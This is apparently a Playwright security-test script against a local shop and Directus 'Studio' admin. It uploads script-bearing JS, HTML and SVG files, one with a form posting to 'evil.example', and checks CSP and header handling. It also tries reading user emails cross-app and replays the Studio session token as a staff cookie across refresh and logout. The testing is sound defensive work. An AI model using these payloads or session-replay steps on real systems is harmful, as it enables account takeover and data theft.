import { chromium } from 'playwright-core';
import { chromiumOptions } from './support/chromium.ts';
const browser = await chromium.launch(await chromiumOptions());
const context = await browser.newContext({
  viewport: { width: 1440, height: 900 },
  baseURL: 'http://localhost:5200',
  storageState: '/tmp/w5/.tmp/state.json',
});
context.setDefaultTimeout(60000);
const api = context.request;
const upload = async (name: string, mimeType: string, text: string) => {
  const r = await api.post('/studio/files', {
    multipart: { file: { name, mimeType, buffer: Buffer.from(text) } },
  });
  const b = await r.json();
  console.log('upload', name, r.status(), b?.data?.type, b?.errors?.[0]?.message);
  return b?.data?.id as string | undefined;
};
const files = {
  js: await upload('a.js', 'text/javascript', 'document.title="PWNED";window.pwned=location.origin;'),
  html: await upload(
    'a.html',
    'text/html',
    '<form action="https://evil.example"><input name=p></form><script>window.pwned=1</script>',
  ),
  svg: await upload(
    'a.svg',
    'image/svg+xml',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>window.pwned=1</script><circle r="5"/></svg>',
  ),
};
for (const [k, id] of Object.entries(files))
  if (id) {
    const r = await api.get(`/studio/assets/${id}`);
    const h = r.headers();
    console.log(
      k,
      r.status(),
      h['content-type'],
      '|',
      h['content-security-policy'],
      '|',
      h['content-disposition'],
      '|',
      h['x-content-type-options'],
    );
  }
const page = await context.newPage();
page.on('websocket', (ws) => {
  console.log('WS', ws.url());
  ws.on('framereceived', (f) => console.log('  frame', String(f.payload).slice(0, 80)));
  ws.on('close', () => console.log('  WS closed'));
});
page.on('console', (m) => {
  if (m.type() === 'error') console.log('CONSOLE', m.text().slice(0, 200));
});
await page.goto('/');
console.log(
  'shop page CSP blocks the uploaded script?',
  await page.evaluate(async (id) => {
    const s = document.createElement('script');
    s.src = `/studio/assets/${id}`;
    document.head.append(s);
    await new Promise((r) => {
      s.onload = s.onerror = r;
    });
    return (window as any).pwned ?? 'blocked';
  }, files.js),
);
console.log(
  'from shop page, the Studio API with the cookie:',
  await page.evaluate(async () => (await fetch('/studio/users?fields=email&limit=2')).text()),
);
console.log(
  'websocket from shop page:',
  await page.evaluate(
    () =>
      new Promise((r) => {
        const w = new WebSocket('ws://' + location.host + '/studio/websocket');
        w.onopen = () => w.send('{"type":"ping"}');
        w.onmessage = (m) => r('msg ' + m.data);
        w.onerror = () => r('error');
        w.onclose = (e) => r('close ' + e.code);
      }),
  ),
);
await page.goto('/studio/admin/content/products');
await page.waitForTimeout(9000);
await page.screenshot({ path: '/tmp/w5/.tmp/studio-2.png' });
const hasShop = await page.evaluate(() =>
  performance
    .getEntriesByType('resource')
    .filter((e) => e.name.includes('extensions'))
    .map((e) => e.name + ' ' + Math.round(e.duration)),
);
console.log('extension bundles', hasShop);
// one sign-in: the session of the Studio as the staff cookie
const token = (await context.cookies()).find((c) => c.name === 'directus_session_token')!.value;
const me = async (t: string) => {
  const r = await fetch('http://localhost:5200/api/admin/session', {
    headers: { cookie: `chitenge-staff=${t}` },
  });
  return `${r.status} ${(await r.text()).slice(0, 120)}`;
};
console.log('admin with the Studio session', await me(token));
const r = await api.post('/studio/auth/refresh', { data: { mode: 'session' } });
const after = (await context.cookies()).find((c) => c.name === 'directus_session_token')!.value;
console.log('refresh', r.status(), 'rotated', after !== token, '| old now', await me(token));
await new Promise((f) => setTimeout(f, 12000));
console.log('old after 12 s', await me(token), '| new', await me(after));
const out = await api.post('/studio/auth/logout', { data: { mode: 'session' } });
console.log('logout', out.status(), out.headers()['set-cookie'], await me(after));
await browser.close();
